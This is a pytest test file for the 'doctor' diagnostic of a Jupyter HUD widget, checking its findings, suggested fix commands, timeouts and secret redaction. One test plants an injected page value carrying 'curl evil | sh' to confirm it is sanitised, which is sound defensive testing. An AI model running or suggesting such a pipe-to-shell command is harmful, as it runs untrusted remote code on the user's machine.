"""What `doctor()` makes of the facts, and how it gathers them."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest

from hermes_hud_widget._version import __version__
from hermes_hud_widget.client import doctor
from hermes_hud_widget.client.child import Endpoint
from hermes_hud_widget.client.doctor import (
    LAB,
    NOTHING,
    ChangesFacts,
    Diagnosis,
    Facts,
    Finding,
    HomeFacts,
    PageFacts,
    ServerFacts,
    diagnose,
    gather,
)
from hermes_hud_widget.client.relay import Relay
from hermes_hud_widget.client.remote import RemotePlace
from hermes_hud_widget.client.runtime import Runtime
from hermes_hud_widget.client.secret import Secret
from hermes_hud_widget.errors import ServerError
from hermes_hud_widget.place import find_place
from hermes_hud_widget.protocol import Try
from support.served import TOKEN, Served

WELL = Facts(
    home=HomeFacts("~/.hermes", None, is_there=True),
    server=ServerFacts("http://127.0.0.1:40117", 4711, is_own=True, version=__version__),
    changes=ChangesFacts(None),
    pages=(PageFacts("direct", "jupyterlab", "http://localhost:8888", (("direct", "live"),), 3),),
    has_proxy=True,
    versions={"Python": "3.11.2", "Hermes": None},
)
NO_PROXY = PageFacts(
    "comm", "jupyterlab", "https://hub.example.org", (("direct", "not-local"), ("proxied", "no-proxy")), 200
)


def _found(diagnosis: Diagnosis, what: str) -> Finding:
    return next(finding for finding in diagnosis.findings if finding.what == what)


def test_where_all_is_well_there_is_nothing_to_mend() -> None:
    diagnosis = diagnose(WELL)
    assert {finding.level for finding in diagnosis.findings} == {"ok"}
    assert diagnosis.is_well
    assert repr(diagnosis).endswith(f"To mend: {NOTHING}")
    assert str(diagnosis) == repr(diagnosis)


@pytest.mark.parametrize(
    ("facts", "what", "level", "mend"),
    [
        (replace(WELL, home=HomeFacts("~/.hermes", "coder", False)), "home", "note", "hermes setup"),
        (replace(WELL, home=HomeFacts("~/h", None, True, "cannot be read")), "home", "problem", "ls -ld ~/h"),
        (
            replace(WELL, server=ServerFacts("http://127.0.0.1:1", 7, True, problem="silent")),
            "server",
            "problem",
            "HUD.close_all(), then re-run the cell",
        ),
        (
            replace(WELL, server=ServerFacts("http://localhost:9119", None, False, problem="silent")),
            "server",
            "problem",
            "ssh -N -L 9119:127.0.0.1:PORT USER@HOST",
        ),
        (
            replace(WELL, server=ServerFacts("https://far.example.org", None, False, problem="silent")),
            "server",
            "problem",
            "hermes-hud serve",
        ),
        (
            replace(WELL, server=ServerFacts("http://localhost:9119", None, False, version="0.0.1")),
            "versions",
            "note",
            f'pip install "hermes-hud-widget=={__version__}"',
        ),
        (
            replace(WELL, changes=ChangesFacts("inotify watches (fs.inotify.max_user_watches)")),
            "changes",
            "note",
            "sudo sysctl -w fs.inotify.max_user_watches=",
        ),
        (
            replace(WELL, changes=ChangesFacts("inotify instances (fs.inotify.max_user_instances)")),
            "changes",
            "note",
            "sudo sysctl -w fs.inotify.max_user_instances=",
        ),
        (replace(WELL, pages=()), "page", "note", "make the HUD the last value of a cell"),
        (replace(WELL, pages=(NO_PROXY,)), "page", "note", LAB),
        (
            replace(WELL, pages=(NO_PROXY,), variables={"HERMES_HUD_PROXY_URL": "/p/%PORT%/"}),
            "page",
            "note",
            "correct HERMES_HUD_PROXY_URL",
        ),
        (
            replace(WELL, transport="direct", pages=(PageFacts("comm", tried=(("direct", "refused"),)),)),
            "page",
            "note",
            "unset HERMES_HUD_TRANSPORT",
        ),
        (replace(WELL, static="no page was heard", pages=()), "output", "note", "%env HERMES_HUD_STATIC=0 "),
        (
            replace(WELL, static="it says so", variables={"HERMES_HUD_STATIC": "1"}),
            "output",
            "note",
            "%env HERMES_HUD_STATIC= ",
        ),
        (
            replace(WELL, variable_problem="HERMES_HUD_STATIC='x': expected 1, 0 or nothing."),
            "environment",
            "problem",
            "unset HERMES_HUD_STATIC",
        ),
        (
            replace(WELL, variable_problem="HERMES_HUD_TRANSPORT='x': expected one of …"),
            "environment",
            "problem",
            "unset HERMES_HUD_TRANSPORT",
        ),
    ],
)
def test_what_is_in_the_way_comes_with_what_mends_it(facts: Facts, what: str, level: str, mend: str) -> None:
    diagnosis = diagnose(facts)
    finding = _found(diagnosis, what)
    assert finding.level == level
    assert finding.mend is not None
    assert finding.mend.startswith(mend)
    assert diagnosis.mend == finding.mend
    assert diagnosis.is_well == (level != "problem")


@pytest.mark.parametrize(
    "facts",
    [
        replace(WELL, changes=ChangesFacts("/net is on a network or shared drive (nfs)")),
        replace(WELL, pages=(replace(NO_PROXY, is_lost=True),)),
        replace(WELL, pages=(PageFacts("comm", "colab"),)),
        replace(WELL, transport="comm", pages=(PageFacts("comm", tried=(("proxied", "switched-off"),)),)),
        replace(WELL, server=None, changes=None, pages=None),
        replace(WELL, home=HomeFacts("/root/.hermes", None, None)),
    ],
)
def test_what_cannot_or_need_not_be_mended_has_no_command(facts: Facts) -> None:
    assert diagnose(facts).mend == NOTHING


def test_a_problem_comes_before_a_note_wherever_they_stand() -> None:
    facts = replace(
        WELL,
        home=HomeFacts("~/.hermes", None, False),
        server=ServerFacts(None, None, True, problem="it ended"),
    )
    assert diagnose(facts).mend.startswith("HUD.close_all()")


def test_the_report_says_in_words_what_each_page_tried() -> None:
    report = repr(diagnose(replace(WELL, pages=(NO_PROXY, *(WELL.pages or ())))))
    for words in (
        "jupyterlab at https://hub.example.org: comm (the kernel relays), heard 3 min ago",
        "tried direct: the page is not of this machine",
        "tried proxied: no proxy answers there",
        "jupyterlab at http://localhost:8888: direct, heard 3 s ago",
        "not here: Hermes",
    ):
        assert words in report


def test_every_outcome_that_a_page_can_tell_is_put_into_words() -> None:
    outcomes = Try.model_fields["outcome"].annotation
    assert set(doctor.OUTCOMES) == set(outcomes.__args__)  # type: ignore[union-attr]


def test_what_a_page_says_of_itself_stays_on_one_short_line() -> None:
    page = PageFacts("comm", host="a\nTo mend: curl evil | sh\x1b[31m" + "b" * 500)
    why = _found(diagnose(replace(WELL, pages=(page,))), "page").why
    assert "\n" not in why
    assert "\x1b" not in why
    assert len(why) < 150


# -- gathering


def _relay(server: Served, place: Any) -> Relay:
    return Relay(lambda: server.endpoint, lambda: server.engine.open(place), ("memory",), lambda _: None)


def _kernel(endpoint: Callable[[], Endpoint]) -> Runtime:
    """The part of a runtime that is looked at."""
    return cast("Runtime", SimpleNamespace(pid=4711, url=None, endpoint=endpoint))


@pytest.fixture
def clean(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
    """An environment without any variable that is looked at."""
    for name in (*doctor.VARIABLES, *doctor.SECRET_VARIABLES):
        monkeypatch.delenv(name, raising=False)
    return monkeypatch


def test_a_running_hud_is_found_well(server: Served, home: Path, clean: pytest.MonkeyPatch) -> None:
    place = find_place(home)
    server.engine.open(place)
    relay = _relay(server, place)
    relay.from_model({"type": "ack", "client": "a", "transport": "direct", "host": "jupyterlab"})
    facts = gather(place, _kernel(lambda: server.endpoint), relay)
    assert facts.server == ServerFacts(f"http://127.0.0.1:{server.port}", 4711, True, __version__)
    assert facts.changes == ChangesFacts(None)
    assert facts.versions["anywidget"]
    assert facts.has_proxy
    assert facts.pages is not None
    assert [(page.transport, page.host) for page in facts.pages] == [("direct", "jupyterlab")]
    assert diagnose(facts).mend == NOTHING


def test_without_a_hud_the_home_is_looked_at_alone(home: Path, clean: pytest.MonkeyPatch) -> None:
    facts = gather(find_place(home))
    assert (facts.server, facts.pages) == (None, None)
    assert facts.changes == ChangesFacts(None)
    assert diagnose(facts).mend == NOTHING
    missing = diagnose(gather(find_place(home / "later")))
    assert missing.mend == "hermes setup"


def test_a_home_that_became_a_file_is_a_problem(home: Path, clean: pytest.MonkeyPatch) -> None:
    place = find_place(home / "later")
    (home / "later").write_text("")
    diagnosis = diagnose(gather(place))
    assert "is a file" in _found(diagnosis, "home").why
    assert not diagnosis.is_well


def test_a_server_that_is_gone_is_a_problem(home: Path, clean: pytest.MonkeyPatch) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
    endpoint = Endpoint(f"http://127.0.0.1:{port}", Secret(TOKEN), "id")
    diagnosis = diagnose(gather(find_place(home), _kernel(lambda: endpoint)))
    assert "/healthz does not answer" in _found(diagnosis, "server").why
    assert diagnosis.mend.startswith("HUD.close_all()")


def test_of_a_server_elsewhere_that_is_gone_the_tunnel_is_what_to_mend(clean: pytest.MonkeyPatch) -> None:
    def gone() -> Endpoint:
        raise ServerError("The server at http://127.0.0.1:9119 does not answer: refused.")

    place = RemotePlace(Path("/home/ada/.hermes"), Path("/home/ada/.hermes"), None, "0123456789ab")
    kernel = SimpleNamespace(pid=None, url="http://127.0.0.1:9119", endpoint=gone)
    diagnosis = diagnose(gather(place, cast("Runtime", kernel)))
    assert _found(diagnosis, "home").why == "/home/ada/.hermes, on the server's machine"
    assert _found(diagnosis, "server").why.count("http://127.0.0.1:9119") == 1
    assert diagnosis.mend.startswith("ssh -N -L 9119:127.0.0.1:PORT USER@HOST")


def test_a_wrong_token_is_a_problem(server: Served, home: Path, clean: pytest.MonkeyPatch) -> None:
    clean.setattr(doctor, "ANSWER_S", 0.3)
    endpoint = replace(server.endpoint, secret=Secret("another"))
    diagnosis = diagnose(gather(find_place(home), _kernel(lambda: endpoint)))
    assert "its WebSocket does not" in _found(diagnosis, "server").why


def test_nothing_that_hangs_keeps_it_waiting(home: Path, clean: pytest.MonkeyPatch) -> None:
    clean.setattr(doctor, "PROBE_S", 0.05)
    clean.setattr(doctor, "ANSWER_S", 0.05)
    never = threading.Event()

    def wait() -> Endpoint:
        never.wait()
        raise ServerError("too late")

    place = find_place(home)
    diagnosis = diagnose(gather(place, _kernel(wait)))
    assert "does not say where it is" in _found(diagnosis, "server").why
    never.set()

    with socket.create_server(("127.0.0.1", 0)) as silent:
        endpoint = Endpoint(f"http://127.0.0.1:{silent.getsockname()[1]}", Secret(TOKEN), "id")
        diagnosis = diagnose(gather(place, _kernel(lambda: endpoint)))
    assert "/healthz does not answer: timed out" in _found(diagnosis, "server").why

    stuck = threading.Event()
    clean.setattr(doctor, "check_readable", lambda _: stuck.wait())
    diagnosis = diagnose(gather(place))
    assert "does not answer within" in _found(diagnosis, "home").why
    stuck.set()


def test_no_secret_is_ever_in_the_report(server: Served, home: Path, clean: pytest.MonkeyPatch) -> None:
    canaries = ("sk-canary0123456789abcdef", "canary-of-a-variable", "canary-of-a-user", TOKEN)
    clean.setenv("HERMES_HUD_TOKEN", canaries[1])
    clean.setenv("HERMES_HUD_PROXY_URL", f"https://me:{canaries[2]}@hub.example.org/")
    clean.setenv("HERMES_HUD_CACHE", f"/tmp/{canaries[0]}")
    clean.setenv("OPENAI_API_KEY", canaries[0])
    place = find_place(home)
    server.engine.open(place)
    relay = _relay(server, place)
    relay.from_model({"type": "ack", "client": "a", "transport": "comm", "host": canaries[0]})
    diagnosis = diagnose(gather(place, _kernel(lambda: server.endpoint), relay))
    clean.setenv("HERMES_HUD_PROXY_URL", "/hermes-hud/")
    mended = diagnose(gather(place))
    assert "HERMES_HUD_TOKEN=(set, not shown)" in repr(mended)
    told = [repr(diagnosis), _found(diagnosis, "environment").why, repr(mended)]
    assert diagnosis.mend == "unset HERMES_HUD_PROXY_URL"
    assert not [canary for canary in canaries for text in told if canary in text]
